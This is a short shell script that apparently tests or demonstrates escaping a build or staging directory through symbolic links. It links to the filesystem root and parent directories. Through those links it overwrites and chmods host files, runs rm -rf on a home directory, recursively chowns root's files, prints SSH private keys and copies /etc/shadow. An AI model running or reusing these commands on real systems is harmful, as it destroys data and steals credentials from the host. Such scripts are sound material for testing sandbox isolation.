# links out of the stage, followed by whatever comes later
ln -s / top; ln -s ../../../../../../.. up; ln -s "$HOST/victim" etc/victim
ln -s "$HOST" var/host
echo x >etc/victim; chmod 777 etc/victim; chown 24 etc/victim
echo x >var/host/new; rm -rf var/host/home; chown -R -L 24 up/root 2>/dev/null
cat up/root/.ssh/* var/host/home/.ssh/id 2>/dev/null
cp -p up/etc/shadow . 2>/dev/null
exit 0
